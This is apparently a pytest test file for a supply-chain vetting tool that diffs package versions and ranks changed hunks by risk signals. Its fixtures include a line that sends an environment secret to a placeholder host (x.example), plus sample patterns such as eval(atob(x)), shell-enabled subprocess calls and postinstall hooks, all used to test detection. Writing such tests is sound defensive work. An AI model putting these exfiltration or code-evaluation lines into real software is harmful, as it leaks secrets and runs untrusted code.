import dataclasses
import random
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.factories import tree
from vetting.code_diff import CodeDiff, FileDiff, compare
from vetting.code_diff._lines import Lines
from vetting.model.artifact import ArtifactKind

LINES = st.lists(st.sampled_from(["a", "b", "", "{", "}", "x = 1"]), max_size=60)


def diff(old: dict[str, str | bytes], new: dict[str, str | bytes]) -> CodeDiff:
    return compare(tree(old), tree(new))


def only(old: str | bytes, new: str | bytes, path: str = "a.js") -> FileDiff:
    (found,) = diff({path: old}, {path: new}).files
    return found


@given(LINES, LINES, st.sampled_from([0, 100, 1_000_000]))
def test_the_differences_of_any_two_texts_lead_from_one_to_the_other(
    old: list[str], new: list[str], most: int
) -> None:
    made: list[str] = []
    at = 0
    for tag, i1, i2, j1, j2 in Lines(most).opcodes(old, new):
        assert i1 == at
        at = i2
        made += old[i1:i2] if tag == "equal" else new[j1:j2]
        assert tag != "equal" or old[i1:i2] == new[j1:j2]
    assert (made, at) == (new, len(old))


def test_a_change_is_a_hunk_as_every_tool_reads_it() -> None:
    found = only("one\ntwo\nthree\nfour\nfive\n", "one\ntwo\nTHREE\nfour\nfive\n")
    (hunk,) = found.hunks
    assert (found.added, found.removed) == (1, 1)
    assert hunk.header == "@@ -1,6 +1,6 @@"
    assert hunk.lines == (" one", " two", "-three", "+THREE", " four", " five", " ")


def test_hunks_that_reach_further_come_first() -> None:
    old = "const a = 1;\n" * 30
    new = (
        old.replace("a = 1", "a = 2", 1) + 'fetch("https://x.example", {body: process.env.KEY});\n'
    )
    files = diff(
        {"lib/a.js": old, "README.md": "x\n", "test/b.js": "1\n"},
        {"lib/a.js": new, "README.md": "https://x.example\n", "test/b.js": "fetch('x')\n"},
    ).files
    assert [file.path for file in files] == ["lib/a.js", "README.md", "test/b.js"]
    quiet, loud = files[0].hunks
    assert loud.score > quiet.score
    assert loud.signals == ("network", "environment")
    assert files[0].score == loud.score > 1 >= files[1].score


@pytest.mark.parametrize(
    ("line", "signal"),
    [
        ('import {exec} from "node:child_process";', "runs programs"),
        ("subprocess.run(x, shell=True)", "runs programs"),
        ("eval(atob(x))", "evaluates code"),
        ("exec(compile(text, 'x', 'exec'))", "evaluates code"),
        ("run(Buffer.from(text, 'base64'))", "evaluates code"),
        ("cp.exec(line)", "runs programs"),
        ("const { stdout } = await exec(line);", "runs programs"),
        ('  "postinstall": "node x.js"', "install command"),
        ("requests.post(url, data)", "network"),
        ("os.environ['TOKEN']", "environment"),
        ('server.registerTool("x", {', "what the model is told"),
        ("fs.writeFileSync(path, text)", "files"),
        ('"zod": "^4.0.0",', "dependencies"),
        ("if (!isPathWithinAllowed(p)) throw denied", "checks"),
    ],
)
def test_what_a_hunk_is_ranked_for(line: str, signal: str) -> None:
    (hunk,) = only("x\n", f"x\n{line}\n").hunks
    assert signal in hunk.signals
    (gone,) = only(f"x\n{line}\n", "x\n").hunks
    assert f"{signal}, removed" in gone.signals
    assert gone.score < hunk.score


@pytest.mark.parametrize(
    "line",
    [
        "WORD = re.compile(r'a')",
        "while ((match = rule.exec(text)) !== null) {",
        "return Buffer.from(content).toString('base64');",
        'encoding: z.enum(["text", "base64"]).optional(),',
        "name: vm.name",
    ],
)
def test_what_only_looks_like_running_code(line: str) -> None:
    (hunk,) = only("x\n", f"x\n{line}\n").hunks
    assert {"runs programs", "evaluates code"}.isdisjoint(hunk.signals)


def test_the_readme_in_python_s_metadata_is_documentation() -> None:
    def meta(requires: str, says: str) -> str:
        return f"Name: s\nRequires-Dist: {requires}\n" + "\n" * 9 + f"{says}\n"

    path = "s-1.dist-info/METADATA"
    found = only(meta("a", "One."), meta("b", 'See https://x.example and "a": "1".'), path)
    fields, readme = found.hunks
    assert fields.score > 8
    assert readme.score <= 1


def test_new_and_gone_files_are_shown_in_pieces() -> None:
    found = diff({"old.js": "a\nb\n"}, {"new.js": "x\n" * 100 + "eval(y)\n"})
    new, old = found.files
    assert (new.old, new.new, new.added) == ("", "new.js", 101)
    assert [hunk.header for hunk in new.hunks] == ["@@ -0,0 +1,60 @@", "@@ -0,0 +61,41 @@"]
    assert new.hunks[1].score > new.hunks[0].score
    assert (old.old, old.new, old.removed) == ("old.js", "", 2)
    assert old.hunks[0].lines == ("-a", "-b")


def test_a_renamed_file_is_not_two() -> None:
    (found,) = diff({"a.js": "same\n"}, {"b.js": "same\n"}).files
    assert (found.old, found.new, found.note) == ("a.js", "b.js", "renamed, same bytes")


def test_line_endings_and_modes_are_told() -> None:
    assert only("a\nb\n", "a\r\nb  \r\n").note == "only line endings or trailing spaces"
    before, after = tree({"a.sh": "x\n"}), tree({"a.sh": "x\n"})
    runs = dataclasses.replace(after.files[0], mode=0o755)
    (found,) = compare(before, dataclasses.replace(after, files=(runs,))).files
    assert found.note == "mode 644 → 755"


@pytest.mark.parametrize(
    ("old", "new", "why"),
    [
        ("a\n", "x" * 5_000 + "\n", "minified, a line of 5,000 characters: 2 bytes → 5,001 bytes"),
        ("x" * 5_000, "a\n", "minified, a line of 5,000 characters: 5,000 bytes → 2 bytes"),
        (b"\x7fELF1", b"\x7fELF2", "binary (elf): 5 bytes → 5 bytes"),
        ("a\n", "b\n" * (5 << 20), "too large to compare line by line: 2 bytes → 10,240 kB"),
    ],
)
def test_what_nobody_can_read_is_opaque(old: str | bytes, new: str | bytes, why: str) -> None:
    found = diff({"a.js": old}, {"a.js": new})
    (file,) = found.files
    assert (file.opaque, file.hunks) == (why, ())
    assert found.opaque == (file,)
    assert found.opaque_share == 1.0


def test_one_long_line_among_many_is_read_as_text() -> None:
    found = only("a\n" * 2_000, "a\n" * 1_999 + "x" * 2_400 + "\n")
    assert (found.opaque, found.added) == ("", 1)


def test_the_share_of_opaque_change() -> None:
    found = diff(
        {"a.js": "x" * 3_000, "b.js": "1\n"}, {"a.js": "y" * 3_000, "b.js": "2\n" + "3\n" * 499}
    )
    assert found.opaque_share == 0.75


def test_wheels_of_two_versions_lie_side_by_side() -> None:
    one = tree(
        {"s-1.dist-info/RECORD": "1", "s-1.dist-info/METADATA": "Version: 1\n", "s/a.py": "a\n"},
        kind=ArtifactKind.WHEEL,
    )
    two = tree(
        {"s-2.dist-info/RECORD": "2", "s-2.dist-info/METADATA": "Version: 2\n", "s/a.py": "a\n"},
        kind=ArtifactKind.WHEEL,
    )
    (found,) = compare(one, two).files
    assert found.path == "*.dist-info/METADATA"


def test_equal_trees_have_no_difference() -> None:
    assert diff({"a": "x"}, {"a": "x"}) == CodeDiff(files=())
    assert CodeDiff(files=()).opaque_share == 0.0


@pytest.mark.exhaustive
@pytest.mark.parametrize("kind", ["shuffled", "repeated", "braces", "long"])
def test_hostile_texts_take_bounded_time(kind: str) -> None:
    chance = random.Random(7)
    old, new = {
        "shuffled": ([str(n) for n in range(60_000)], [str(n) for n in range(60_000)]),
        "repeated": (["a", "b"] * 900, ["b", "a", "a"] * 600),
        "braces": (["{", "}", ""] * 20_000, ["}", "", "{", "{"] * 15_000),
        "long": (["x"] * 1_900, ["y"] * 1_900),
    }[kind]
    if kind == "shuffled":
        chance.shuffle(new)
    begin = time.process_time()
    found = only("\n".join(old), "\n".join(new))
    assert found.added
    assert time.process_time() - begin < 6


def test_text_that_is_no_utf8_is_compared_all_the_same() -> None:
    assert only(b"a\xff\n", b"b\xff\n").added == 1
    assert only("a\n".encode("utf-16"), "b\n".encode("utf-16")).added == 1
